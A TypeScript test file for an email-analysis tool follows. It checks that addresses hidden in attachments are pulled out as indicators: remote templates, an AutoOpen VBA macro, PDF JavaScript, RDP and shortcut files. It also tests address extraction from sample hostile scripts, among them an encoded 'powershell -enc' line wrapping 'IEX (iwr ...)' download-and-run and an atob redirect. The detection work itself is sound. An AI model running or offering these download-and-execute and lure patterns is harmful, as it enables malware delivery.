import fc from 'fast-check';
import JSZip from 'jszip';
import { describe, expect, test } from 'vitest';
import { analyzeMail } from '../../../../core/mail/analyze-mail.ts';
import { readWrittenAddresses } from '../../../../core/mail/attachment/written-addresses.ts';
import { scriptAddresses } from '../../../../core/mail/links/script-addresses.ts';
import { bytesOf, join, withAttachment } from '../mail-builder.ts';
import { utf16 } from './byte-builder.ts';
import { compoundFile } from './compound-builder.ts';
import { officePackage, relationships } from './package-builder.ts';
import { vbaStorage } from './vba-builder.ts';
import { processorMs } from '../../../processor-time.ts';

/** The values of communication that a mail with one attachment gives, without their domains, and where each was seen. */
async function valuesOf(name: string, content: Uint8Array): Promise<string[]> {
  const { indicators } = await analyzeMail(withAttachment(name, content));
  return indicators
    .filter(({ family, type }) => family === 'communication' && type !== 'domain')
    .map(({ value, where }) => `${value} | ${where}`);
}

const LONG = `https://evil.example/${'a'.repeat(400)}`;

describe('addresses in attached files become indicators of the mail', () => {
  test('Office', async () => {
    const document = await officePackage({
      'word/document.xml': '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
      'word/_rels/document.xml.rels': relationships([
        { type: 'attachedTemplate', target: 'http://t.example/a.dotm' },
        { type: 'hyperlink', target: LONG },
        { type: 'image', target: 'file:///\\\\198.51.100.1\\a\\b.png' },
      ]),
    });
    expect(await valuesOf('a.docx', document)).toEqual([
      'http://t.example/a.dotm | attachment a.docx (remote-template)',
      `${LONG} | attachment a.docx (document-link)`,
      '198.51.100.1 | attachment a.docx (remote-picture)',
    ]);
    const zip = new JSZip();
    zip.file('b.docx', document);
    expect((await valuesOf('a.zip', await zip.generateAsync({ type: 'uint8array' })))[0]).toBe(
      'http://t.example/a.dotm | attachment a.zip / b.docx (remote-template)',
    );
    const source = 'Sub AutoOpen()\r\nu = "https://v.example/p.exe"\r\nEnd Sub\r\n';
    const macro = compoundFile([{ name: 'Macros', children: [vbaStorage([{ name: 'M', source }])] }]);
    expect(await valuesOf('a.doc', macro)).toEqual(['https://v.example/p.exe | attachment a.doc (vba-call)']);
  });

  test('a bare name is a domain alone', async () => {
    const { indicators } = await analyzeMail(withAttachment('a.rdp', bytesOf('gatewayhostname:s:gw.evil.com')));
    const values = indicators
      .filter(({ family }) => family === 'communication')
      .map(({ type, value }) => [type, value]);
    expect(values).toEqual([['domain', 'gw.evil.com']]);
  });

  test('a hyperlink of an old Excel book', async () => {
    const address = utf16('http://x.example/a\0');
    const data = [...Buffer.alloc(8), ...address];
    const book = Uint8Array.from([0x09, 0x08, 4, 0, 0, 6, 5, 0, 0xb8, 0x01, data.length, 0, ...data]);
    expect(await valuesOf('a.xls', compoundFile([{ name: 'Workbook', stream: book }]))).toEqual([
      'http://x.example/a | attachment a.xls (document-link)',
    ]);
  });

  test.each<[string, string, string[]]>([
    ['a.rtf', '{\\rtf1{\\field{\\*\\fldinst HYPERLINK "http://r.example/a"}}}', ['http://r.example/a (document-link)']],
    ['a.pdf', '%PDF-1.7\n1 0 obj<</S/URI/URI(http://p.example/)>>endobj', ['http://p.example/ (pdf-uri)']],
    [
      'a.pdf',
      '%PDF-1.7\n1 0 obj<</JS(app.launchURL\\("http://j.example/"\\))>>endobj',
      ['http://j.example/ (pdf-javascript)'],
    ],
    ['a.iqy', 'WEB\r\n1\r\nhttp://i.example/x', ['http://i.example/x (remote-object)']],
    ['a.url', '[InternetShortcut]\r\nURL=http://u.example/x', ['http://u.example/x (shortcut-target)']],
    [
      'a.html',
      '<html xmlns="http://www.w3.org/1999/xhtml"><a href="http://h.example/">x</a><img src="cid:1"><script>f("http://s.example/")</script>',
      ['http://h.example/ (written-address)', 'http://s.example/ (written-address)'],
    ],
    ['a.js', 'document.forms.jp; get("http://k.example/a")', ['http://k.example/a (written-address)']],
    ['a.library-ms', '<?xml version="1.0"?><url>\\\\198.51.100.4\\x</url>', ['198.51.100.4 (written-address)']],
    ['a.rdp', 'full address:s:198.51.100.5\r\ngatewayhostname:s:gw.evil.com', ['198.51.100.5 (written-address)']],
    ['a.ics', 'BEGIN:VCALENDAR\r\nLOCATION:http://c.exam\r\n ple/x\\, y', ['http://c.example/x (written-address)']],
    ['a.txt', '詳細はexample.com/aへ', ['http://example.com/a (written-address)']],
  ])('%s', async (name, content, expected) => {
    expect(await valuesOf(name, bytesOf(content))).toEqual(
      expected.map((line) => line.replace(' (', ` | attachment ${name} (`)),
    );
  });

  test('schemas and what is well known are set apart', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><a href="http://www.w3.org/2000/svg">x</a></svg>';
    expect(await valuesOf('a.svg', bytesOf(svg))).toEqual([]);
  });

  test('an invitation in the mail gives links', async () => {
    const calendar = 'BEGIN:VCALENDAR\r\nDESCRIPTION:資料 https://c.example/y?a\\,b\\n次\r\nEND:VCALENDAR\r\n';
    const mail = `From: a@a.example\r\nContent-Type: text/calendar; charset=utf-8; method=REQUEST\r\n\r\n${calendar}`;
    const { links } = await analyzeMail(join(mail));
    expect(links.map(({ href }) => href)).toEqual(['https://c.example/y?a,b']);
  });
});

test.each<[string, string[]]>([
  ["cmd /c start 'http://a.example/x'", ['http://a.example/x']],
  [
    `powershell -enc ${Buffer.from('IEX (iwr http://a.example/b.ps1)', 'utf16le').toString('base64')}`,
    ['http://a.example/b.ps1'],
  ],
  [`atob("${btoa('var a="http://a.example/"; location=a')}")`, ['http://a.example/']],
  ['a.b.com; event.target.jp', []],
])('strings of a program: %s', (script, found) => {
  expect(scriptAddresses(script)).toEqual(found);
});

test('any text, in time that grows with its length', () => {
  const piece = fc.constantFrom(
    'http://',
    '\\x2f',
    '\\u00',
    '%3A',
    'aHR0c',
    '"',
    'a.com',
    '<a href=',
    '>',
    '\r\n ',
    '\\n',
    '\\\\a\\',
  );
  fc.assert(
    fc.property(
      fc.array(fc.oneof(piece, fc.string({ maxLength: 4 })), { maxLength: 40 }),
      fc.constantFrom('text/html', 'text/plain', 'text/calendar', 'text/xml'),
      (pieces, type) => {
        for (const { detail } of readWrittenAddresses(pieces.join(''), type, 'a')) expect(detail).not.toBe('');
      },
    ),
    { numRuns: 500 },
  );
  const started = processorMs();
  for (const text of ['aHR0cAAAA', 'A', 'http://a', '%3A', '\\x3a', '<a href=http://a>', 'a.com ', '\r\n '])
    for (const type of ['text/html', 'text/plain', 'text/calendar', 'text/xml'])
      readWrittenAddresses(text.repeat(50_000), type, 'a');
  expect(processorMs() - started).toBeLessThan(10_000);
});
